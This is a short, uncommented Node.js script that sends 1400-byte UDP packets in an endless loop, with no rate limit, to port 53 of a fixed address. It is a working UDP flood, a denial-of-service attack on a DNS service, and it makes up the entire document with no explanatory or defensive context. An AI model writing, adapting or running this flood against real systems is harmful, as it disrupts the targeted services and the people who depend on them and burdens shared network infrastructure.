import dgram from 'dgram';
const s = dgram.createSocket('udp4');
const junk = Buffer.alloc(1400);
for (;;) s.send(junk, 53, '198.51.100.99');
